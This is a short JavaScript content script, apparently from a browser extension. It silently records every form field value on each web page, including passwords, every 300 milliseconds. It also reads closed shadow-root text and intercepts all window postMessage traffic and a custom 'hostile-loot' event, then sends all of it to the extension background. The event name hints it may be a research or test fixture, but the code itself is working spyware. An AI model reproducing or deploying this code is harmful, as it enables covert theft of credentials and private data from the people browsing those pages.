// In the page, in a world of its own: listens to everything that passes through the window and reads also closed shadow roots.
const report = (where, text) => void chrome.runtime.sendMessage({ where, text }).catch(() => undefined);

window.addEventListener(
  'message',
  ({ data, origin }) => report(`window message at ${location.origin}`, `${origin} ${JSON.stringify(data)}`),
  { capture: true },
);
document.addEventListener('hostile-loot', ({ detail }) => report(`page ${location.origin}`, detail), { capture: true });

let before = '';
setInterval(() => {
  if (!location.protocol.startsWith('http')) return;
  const shadows = [...document.querySelectorAll('*')].map((element) =>
    element instanceof HTMLElement ? (chrome.dom.openOrClosedShadowRoot(element)?.textContent ?? '') : '',
  );
  const values = [...document.querySelectorAll('input, select, textarea')].map(({ value }) => value);
  const now = [...shadows, ...values].filter((text) => text !== '').join('\n');
  if (now !== before) report(`fields and shadow roots of ${location.origin}`, now);
  before = now;
}, 300);
